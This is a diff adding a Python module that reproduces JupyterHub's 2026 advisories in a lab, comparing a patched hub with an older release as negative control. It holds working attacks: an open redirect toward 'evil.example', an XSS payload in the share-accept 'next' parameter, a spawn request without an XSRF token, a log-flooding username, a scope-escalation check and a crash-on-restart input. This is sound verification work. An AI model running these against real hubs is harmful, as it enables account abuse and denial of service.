@@ -1,0 +1,257 @@
+"""What the attacks of JupyterHub's 2026 advisories achieve (claims ADV-20..ADV-26).
+
+Used by ``runbooks/advisories/jupyterhub-recent.md``, which starts one hub of
+the pinned release (6.1.1, ``containers/hub/``) and one of 5.4.3
+(``containers/hub-adv-5.4/``), the last release before the first of these
+fixes, with the same configuration (:func:`recent_setup`): the default PAM
+authenticator (alice, bob and carol log in with their passwords), a group
+``students`` and a service ``groupadmin`` whose admin scopes are filtered to
+that group, and the ``shares`` scope for the lab's ``runbook`` service, which
+plays the owner who shares a server.  Every function here is one attack,
+made from the lab's client machine as a browser (a cookie jar) or through the
+REST API as the holder of a token.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+import time
+
+from jsv.claims import Observation
+from jsv.environments import JupyterHub, NetClient
+from jsv.environments.command_line import curl_from_environment, curl_token_header
+from jsv.environments.hub import READY_MARKER
+from jsv.probes.login import form_login, register_jar
+from jsv.redaction import new_token, register
+
+
+class JupyterHub543(JupyterHub):
+    """The hub image with jupyterhub 5.4.3 (``containers/hub-adv-5.4/``): the negative control."""
+
+    environment = "hub-adv-5.4"
+
+
+GROUP = "students"
+GROUP_ADMIN_SCOPES = [f"admin:users!group={GROUP}", f"admin:groups!group={GROUP}"]
+"""ADV-25: ``groupadmin`` administers the users and the group ``students``, nothing else."""
+EVIL_HOST = "evil.example"
+OWNER, GUEST, VICTIM = "alice", "bob", "carol"
+RENAMED = "alice-renamed"
+XSS_NEXT = '/hub/"><img src=x onerror=alert(document.domain)>'
+"""ADV-23: a ``next`` the hub accepts as a local path, which closes the link's attribute on 5.4.3."""
+INJECTED = '"><img src=x onerror=alert(document.domain)>'
+LONG_NAME_LENGTH = 256 * 1024
+"""ADV-22: the user name of one failed login (tornado accepts a form body up to 100 MB)."""
+FORGED_OPTIONS = {"__jupyterhub_bytes__": True, "data": 5}
+"""ADV-26: user options shaped like the hub's own encoding of bytes, with a value it cannot decode."""
+
+
+def groupadmin_token(hub: JupyterHub) -> str:
+    """The ``groupadmin`` service's API token on ``hub`` (made once per hub, registered as a secret)."""
+    if hub.alias not in _GROUPADMIN_TOKENS:
+        _GROUPADMIN_TOKENS[hub.alias] = new_token(f"{hub.alias}-groupadmin-token")
+    return _GROUPADMIN_TOKENS[hub.alias]
+
+
+_GROUPADMIN_TOKENS: dict[str, str] = {}
+
+
+def recent_setup(hub: JupyterHub) -> JupyterHub:
+    """The configuration both hubs share: a group, a group-filtered admin service, sharing for the runbook."""
+    return (
+        hub.with_service("{'name': 'groupadmin', 'api_token': os.environ['JSV_GROUPADMIN_TOKEN']}")
+        .with_role("groupadmin", GROUP_ADMIN_SCOPES, services=["groupadmin"])
+        .with_role("sharing", ["shares", "read:shares"], services=["runbook"])
+        .with_env("JSV_GROUPADMIN_TOKEN", groupadmin_token(hub))
+        .with_config(f"c.JupyterHub.load_groups = {{'{GROUP}': {{'users': ['{GUEST}']}}}}")
+    )
+
+
+# -- pure helpers ---------------------------------------------------------------------------------
+_SCHEME = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*:")
+
+
+def browser_destination(location: str, origin_host: str) -> str:
+    """The host a browser goes to when a page of ``origin_host`` answers with ``Location: location``.
+
+    The WHATWG URL standard, not Python's ``urljoin``: for http(s) a backslash is a slash, and a
+    reference that starts with two or more slashes names a host (the parser skips every further
+    slash), so ``///evil.example/`` leaves the hub while ``urljoin`` keeps it on the same host.
+    """
+    text = location.strip().replace("\\", "/")
+    if _SCHEME.match(text):
+        text = text.split(":", 1)[1]
+        if not text.startswith("/"):
+            return origin_host
+    if not text.startswith("//"):
+        return origin_host
+    return text.lstrip("/").split("/", 1)[0].split("?", 1)[0].split("#", 1)[0] or origin_host
+
+
+def longest_line(text: str) -> int:
+    """The length of the longest line of ``text`` (0 for none)."""
+    return max((len(line) for line in text.splitlines()), default=0)
+
+
+# -- the attacks ---------------------------------------------------------------------------------
+def _login(client: NetClient, target: JupyterHub, user: str) -> str:
+    jar = f"/tmp/{target.alias}-{user}"
+    form_login(client, target.url(), target.passwords[user], jar, username=user, path="/hub/login")
+    return jar
+
+
+def open_redirect_after_login(client: NetClient, target: JupyterHub) -> Observation:
+    """ADV-20: a logged-in user opens ``/hub/login?next=http://<hub>///evil.example/``."""
+    jar = _login(client, target, OWNER)
+    host = target.url("").split("//", 1)[1].rstrip("/")
+    next_url = target.url(f"///{EVIL_HOST}/")
+    reply = client.http(target.url("/hub/login"), "-G", "--data-urlencode", f"next={next_url}", "-b", jar)
+    location = reply.headers.get("location", "")
+    destination = browser_destination(location, host) if location else host
+    answers = {
+        "status": reply.status,
+        "Location": location,
+        "leaves the hub for": destination if destination != host else None,
+    }
+    return Observation(answers, reply.transcript)
+
+
+def spawn_without_xsrf(client: NetClient, target: JupyterHub) -> Observation:
+    """ADV-21: a page on another origin of the same site makes carol's browser POST /hub/spawn, no _xsrf."""
+    jar = _login(client, target, VICTIM)
+    reply = client.http(
+        target.url("/hub/spawn"),
+        "-X", "POST", "-d", "",
+        "-H", "Sec-Fetch-Mode: no-cors",
+        "-H", "Sec-Fetch-Site: same-site",
+        "-H", f"Origin: http://mallory.{target.alias}",
+        "-b", jar,
+    )  # fmt: skip
+    _, model, listed = target.api(f"users/{VICTIM}")
+    started = bool(isinstance(model, dict) and model.get("servers", {}).get(""))
+    answers = {"POST /hub/spawn": reply.status, f"{VICTIM}'s server started": started}
+    return Observation(answers, f"{reply.transcript}\n\n{listed.transcript}")
+
+
+LONGEST_LINE = "awk '{ if (length($0) > m) m = length($0) } END { print m+0 }'"
+LONG_LOGIN = """head -c {length} /dev/zero | tr '\\0' a > /tmp/long-name
+rm -f {jar}; curl -s -c {jar} -o /dev/null {base}/hub/login
+xsrf=$(awk '$6=="_xsrf" {{print $7}}' {jar})
+curl -s -b {jar} -o /dev/null -w 'POST /hub/login: %{{http_code}}\\n' --data-urlencode "_xsrf=$xsrf" \\
+     --data-urlencode username@/tmp/long-name {password} {base}/hub/login"""
+
+
+def long_username_logged(client: NetClient, target: JupyterHub) -> Observation:
+    """ADV-22: one failed login with a user name of 256 KiB; then the longest line it added to the log."""
+    log = "/var/log/jupyterhub.log"
+    before = int(target.run(f"stat -c %s {log}").stdout.strip() or 0)
+    jar = f"/tmp/{target.alias}-long"
+    password = new_token(f"{target.alias}-wrong-password", 12)
+    command = LONG_LOGIN.format(
+        length=LONG_NAME_LENGTH,
+        jar=jar,
+        base=target.url("").rstrip("/"),
+        password=curl_from_environment("JSV_PASSWORD", "data-urlencode", "password={}"),
+    )
+    login = client.run(command, environment={"JSV_PASSWORD": password})
+    register_jar(client, jar)
+    time.sleep(1)  # the log line is written by the hub's tee after the answer
+    added = target.run(f"tail -c +{before + 1} {log} | {LONGEST_LINE}")
+    longest = int(added.stdout.strip() or 0)
+    status = login.stdout.strip().rsplit(" ", 1)[-1]
+    answers = {
+        "login": int(status) if status.isdigit() else 0,
+        "whole name written to the log": longest >= LONG_NAME_LENGTH,
+    }
+    evidence = f"{login.transcript}\n\n{added.transcript}\n(longest line added: {longest} characters)"
+    return Observation(answers, evidence)
+
+
+def share_page_injection(client: NetClient, target: JupyterHub) -> Observation:
+    """ADV-23: alice's share code, opened by bob with a crafted ``next``; is markup injected into the page?"""
+    owner_jar = _login(client, target, OWNER)
+    client.http(target.url("/hub/home"), "-b", owner_jar)  # creates alice's default server record
+    status, model, issued = target.api(f"share-codes/{OWNER}/", "POST", {})
+    code = model.get("code", "") if isinstance(model, dict) else ""
+    if not code:
+        return Observation({"share code": status}, issued.transcript)
+    register(code, f"{target.alias}-share-code")
+    guest_jar = _login(client, target, GUEST)
+    page = client.http(
+        target.url("/hub/accept-share"),
+        "-G", "--data-urlencode", f"code={code}", "--data-urlencode", f"next={XSS_NEXT}",
+        "-b", guest_jar,
+    )  # fmt: skip
+    answers = {"accept-share page": page.status, "markup injected": INJECTED in page.body}
+    lines = [line.strip() for line in page.body.splitlines() if "redirected to" in line]
+    return Observation(answers, f"{issued.transcript}\n\n{page.transcript}\n" + "\n".join(lines))
+
+
+def share_after_rename(target: JupyterHub) -> Observation:
+    """ADV-24: alice shares her server with bob, an admin renames alice; the server bob's share names."""
+    shared, _, share = target.api(f"shares/{OWNER}/", "POST", {"user": GUEST})
+    renamed, _, rename = target.api(f"users/{OWNER}", "PATCH", {"name": RENAMED})
+    _, listing, listed = target.api(f"shares/{RENAMED}/")
+    items = listing.get("items", []) if isinstance(listing, dict) else []
+    scopes = sorted({scope for item in items for scope in item.get("scopes", [])})
+    answers = {"share": shared, "rename": renamed, f"{GUEST}'s share grants": scopes}
+    return Observation(answers, "\n\n".join(r.transcript for r in (share, rename, listed)))
+
+
+def filtered_admin_creates(target: JupyterHub) -> Observation:
+    """ADV-25: ``groupadmin`` (admin of the group students only) creates a user and a group."""
+    token = groupadmin_token(target)
+    user_status, _, user_call = target.api("users", "POST", {"usernames": ["outsider"]}, token)
+    new_group = {"groups": ["staff"], "users": [VICTIM]}
+    group_status, _, group_call = target.api("groups", "POST", new_group, token)
+    answers = {"create user outsider": user_status, "create group staff with carol": group_status}
+    return Observation(answers, f"{user_call.transcript}\n\n{group_call.transcript}")
+
+
+def forged_options_survive_restart(target: JupyterHub) -> Observation:
+    """ADV-26: bob starts his server with forged user options; then the hub restarts. Does it serve again?"""
+    _, model, minted = target.api(f"users/{GUEST}/tokens", "POST", {"note": "bob's own client"})
+    token = model.get("token", "") if isinstance(model, dict) else ""
+    if token:
+        register(token, f"{target.alias}-bob-token")
+    started, _, spawn = target.api(f"users/{GUEST}/server", "POST", FORGED_OPTIONS, token)
+    _wait_for_spawn(target)
+    markers = target.logs_text().count(READY_MARKER)
+    target.get_wrapped_container().restart(timeout=10)
+    up = _ready_again(target, markers + 1)
+    listed_status = 0
+    evidence = [minted.transcript, spawn.transcript]
+    if up:
+        listed_status, _, listed = target.api("users")
+        evidence.append(listed.transcript)
+    else:
+        evidence.append("after the restart: the hub exited; last log lines:\n" + target.log_tail(4))
+    answers = {
+        "start with the options": started,
+        "hub serves its users after a restart": up and listed_status == 200,
+    }
+    return Observation(answers, "\n\n".join(evidence))
+
+
+def _wait_for_spawn(target: JupyterHub, timeout: int = 60) -> None:
+    """Until bob's spawn has ended (the hub's progress stream closes), as ``JupyterHub.spawn`` waits."""
+    target.run(
+        f"curl -s -N -o /dev/null --max-time {timeout} {curl_token_header('JSV_RUNBOOK_TOKEN')} "
+        f"{shlex.quote(target.local_url(f'/hub/api/users/{GUEST}/server/progress'))}",
+        timeout=timeout + 10,
+    )
+
+
+def _ready_again(target: JupyterHub, markers: int, timeout: float = 90) -> bool:
+    """Whether the hub logs its ready line a ``markers``-th time before it exits or ``timeout`` passes."""
+    container = target.get_wrapped_container()
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if target.logs_text().count(READY_MARKER) >= markers:
+            return True
+        container.reload()
+        if container.status not in {"created", "running", "restarting"}:
+            return False
+        time.sleep(0.5)
+    return False
